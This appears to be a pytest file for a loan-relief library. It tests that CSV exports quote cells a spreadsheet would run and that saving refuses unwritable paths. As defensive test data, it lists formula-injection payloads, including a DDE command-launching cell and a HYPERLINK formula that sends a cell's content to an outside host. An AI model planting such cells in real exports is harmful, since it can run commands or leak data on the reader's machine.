"""What the library writes for a reader: paths refused by name, CSV a spreadsheet cannot run.

Every file these tests write lives in ``tmp_path``; every refusal is checked to leave
the folder as it was.
"""

from __future__ import annotations

import csv
import errno
import io
import os
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest

import loanrelief as lr
from loanrelief._cli.cli import main
from loanrelief._foundations.output import (
    FORMULA_STARTS,
    a_file_path,
    csv_cell,
    csv_text,
    write_text,
)

# -- CSV: a cell a user wrote is never a formula --------------------------------------

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+2",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "-12.50",  # text that looks like a number is still text
]


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    """A text cell beginning with = + - @ tab or CR gets one leading single quote."""
    assert csv_cell(text) == "'" + text
    assert csv_cell(np.str_(text)) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1234.56"), "1234.56"),
        (-3, "-3"),
        (0, "0"),
        (-0.25, "-0.25"),
        (np.float64(-1.5), "-1.5"),
        (np.int64(-7), "-7"),
        (None, ""),
        (date(2024, 1, 15), "2024-01-15"),
        ("A-1", "A-1"),
        ("花呗", "花呗"),
        ("Smith & Sons", "Smith & Sons"),
        ("12", "12"),
        ("", ""),
    ],
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object, written: str) -> None:
    """A figure (negative ones too), a date, and text that starts harmlessly are unchanged."""
    assert csv_cell(value) == written


def test_csv_text_neutralises_the_header_too() -> None:
    """A header cell from user text (a creditor's name) is quoted like any other cell."""
    text = csv_text(["date", "=1+1"], [[date(2024, 1, 1), Decimal("-1.00")]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["date", "'=1+1"], ["2024-01-01", "-1.00"]]


def _accounts(folder: Path, ids: list[str]) -> Path:
    path = folder / "accounts.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "principal", "annual_rate", "term", "start", "as_of", "paid"])
        for k, name in enumerate(ids):
            writer.writerow([name, 5000 + 1000 * k, "0.18", 12, "2024-01-15", "2024-07-01", 1])
    return path


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_portfolio_csv_round_trips_hostile_ids_neutralised(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The portfolio's CSV: each hostile id comes back behind a quote; the figures stay numbers."""
    ids = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1+2", "\t=1", "A-1"]
    accounts = _accounts(tmp_path, ids)
    for extra in ([], ["--option", "extend:12", "--option", "settle:0.6"]):
        assert main(["portfolio", "--accounts", str(accounts), "--csv", *extra]) == 0
        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
        assert rows
        for row in rows:
            original = row["id"][1:] if row["id"].startswith("'") else row["id"]
            assert original in ids
            assert row["id"] == (
                "'" + original if original.startswith(FORMULA_STARTS) else original
            )
            for key, cell in row.items():
                if key not in ("id", "bucket", "option") and cell:
                    assert _is_number(cell), (key, cell)
        if extra:  # an extension costs more than the baseline: a negative saving, a number
            savings = [Decimal(row["saving"]) for row in rows]
            assert min(savings) < 0


def test_plan_csv_quotes_a_creditors_name_in_its_header(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The plan's CSV: the creditors are columns; a hostile name is a quoted header cell."""
    source = Path(__file__).parent / "reference" / "debts.csv"
    text = source.read_text(encoding="utf-8").replace("\nA,", "\n=HYPERLINK(1),", 1)
    debts = tmp_path / "debts.csv"
    debts.write_text(text, encoding="utf-8")
    assert main(["plan", "--debts", str(debts), "--budget", "1800", "--csv"]) == 0
    header = next(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert "'=HYPERLINK(1)" in header
    assert "=HYPERLINK(1)" not in header


# -- paths: refused with the library's error, naming the path --------------------------


def _long_path(folder: Path) -> Path:
    """A path longer than any system allows (PATH_MAX is 4,096 bytes on Linux)."""
    return folder.joinpath(*["d" * 200] * 25, "b.html")


def _dangling(folder: Path) -> Path:
    """A link to a file in a folder that does not exist: refused only on writing."""
    link = folder / "link.html"
    link.symlink_to(folder / "missing" / "b.html")
    return link


def _inside_a_file(folder: Path) -> Path:
    (folder / "file.txt").write_text("x", encoding="utf-8")
    return folder / "file.txt" / "b.html"


BAD_PATHS: dict[str, Callable[[Path], object]] = {
    "a folder": lambda folder: folder,
    "a folder, as str": str,
    "a folder, with a separator": lambda folder: str(folder / "new") + os.sep,
    "the root": lambda folder: "/",
    "the current folder": lambda folder: ".",
    "a NUL character": lambda folder: str(folder / "a\0b.html"),
    "a name too long": lambda folder: folder / ("x" * 300 + ".html"),
    "a path too long": _long_path,
    "a missing folder": lambda folder: folder / "missing" / "b.html",
    "a file as folder": _inside_a_file,
    "a dangling link": _dangling,
    "empty": lambda folder: "",
}


@pytest.mark.parametrize("case", sorted(BAD_PATHS))
def test_brief_save_refuses_a_path_it_cannot_write_naming_it(case: str, tmp_path: Path) -> None:
    """Brief.save: a folder, /, NUL, a long name, a missing folder … are InvalidValueErrors."""
    path = BAD_PATHS[case](tmp_path)
    before = sorted(tmp_path.rglob("*"))
    page = lr.brief(_state(), [lr.ExtendTerm(3)], charts=False)
    with pytest.raises(lr.InvalidValueError) as caught:
        page.save(path)  # type: ignore[arg-type]
    assert caught.value.field == "path"
    assert caught.value.value == os.fspath(path)  # type: ignore[call-overload]
    assert str(caught.value).startswith("path=")
    assert sorted(tmp_path.rglob("*")) == before  # nothing written


@pytest.mark.parametrize("value", [None, 7, b"brief.html", ["brief.html"]])
def test_brief_save_refuses_what_is_not_a_path(value: object) -> None:
    page = lr.brief(_state(), [lr.ExtendTerm(3)], charts=False)
    with pytest.raises(lr.InvalidTypeError, match="path"):
        page.save(value)  # type: ignore[arg-type]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder")
def test_a_read_only_folder_is_refused_naming_the_path(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(lr.InvalidValueError, match="can be written to"):
            write_text(folder / "b.html", "x", "path")
    finally:
        folder.chmod(0o755)


def test_the_systems_refusal_on_writing_is_the_librarys_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A read-only location or a full disk (the write fails): an InvalidValueError."""
    for code, valid in ((errno.EACCES, "can be written to"), (errno.ENOSPC, "can be written")):

        def refuse(self: Path, *args: object, code: int = code, **kwargs: object) -> int:
            raise OSError(code, os.strerror(code), str(self))

        monkeypatch.setattr(Path, "write_text", refuse)
        with pytest.raises(lr.InvalidValueError, match=valid) as caught:
            _brief().save(tmp_path / "b.html")
        assert caught.value.value == str(tmp_path / "b.html")
        assert os.strerror(code) in str(caught.value)


def test_a_good_path_is_written_and_returned(tmp_path: Path) -> None:
    """The usual case still works: str or Path, Markdown for .md, HTML otherwise."""
    page = _brief()
    assert page.save(str(tmp_path / "b.MD")).read_text(encoding="utf-8") == page.markdown
    assert page.save(tmp_path / "b").read_text(encoding="utf-8") == page.html
    assert a_file_path(tmp_path / "x.html", "path") == tmp_path / "x.html"
    assert not (tmp_path / "x.html").exists()  # checking writes nothing


_LOAN = ["--principal", "6000", "--rate", "0.18", "--term", "6", "--start", "2024-01-15"]
_COMMANDS = {
    "--output": ["brief", *_LOAN, "--paid", "1", "--as-of", "2024-06-01", "--no-charts"],
    "--brief": [
        *("plan", "--debts", str(Path(__file__).parent / "reference" / "debts.csv")),
        *("--budget", "1800", "--no-charts"),
    ],
}


@pytest.mark.parametrize("flag", sorted(_COMMANDS))
@pytest.mark.parametrize("case", sorted(set(BAD_PATHS) - {"empty"}))
def test_the_command_line_names_the_flag_and_the_path(
    flag: str, case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--output and --brief: one line naming the flag and the path, status 2, no file."""
    path = os.fspath(BAD_PATHS[case](tmp_path))  # type: ignore[call-overload]
    before = sorted(tmp_path.rglob("*"))
    status = main([*_COMMANDS[flag], flag, path])
    err = capsys.readouterr().err
    assert status == 2, err
    assert err.startswith(f"loanrelief: error: {flag}="), err
    assert "internal error" not in err
    assert len(err.strip().splitlines()) == 1
    assert repr(path)[:60] in err
    assert sorted(tmp_path.rglob("*")) == before


def test_a_cards_brief_path_is_checked_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    card = ["card", "brief", "--statement-day", "7", "--daily-rate", "0.0005"]
    card += ["--late-fee-share", "0.05", "--transaction", "2024-03-08:10000"]
    card += ["--until", "2024-09-20", "--no-charts"]
    assert main([*card, "--output", str(tmp_path)]) == 2
    assert f"--output={str(tmp_path)!r} is not valid" in capsys.readouterr().err
    assert main([*card, "--output", str(tmp_path / "c.md")]) == 0
    assert (tmp_path / "c.md").read_text(encoding="utf-8").startswith("# ")


def test_a_file_to_read_with_a_nul_character_is_refused_by_its_flag(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for argv in (["plan", "--budget", "1800", "--debts"], ["portfolio", "--accounts"]):
        assert main([*argv, str(tmp_path / "a\0b.csv")]) == 2
        assert "NUL" in capsys.readouterr().err


def _state() -> lr.AccountState:
    loan = lr.Loan(6000, "0.18", 6, start=date(2024, 1, 15))
    paid = [lr.Payment(row.due_date, row.payment) for row in lr.amortize(loan)[:1]]
    return lr.account_state(loan, paid, as_of=date(2024, 6, 1))


def _brief() -> lr.Brief:
    return lr.brief(_state(), [lr.ExtendTerm(3)], charts=False)
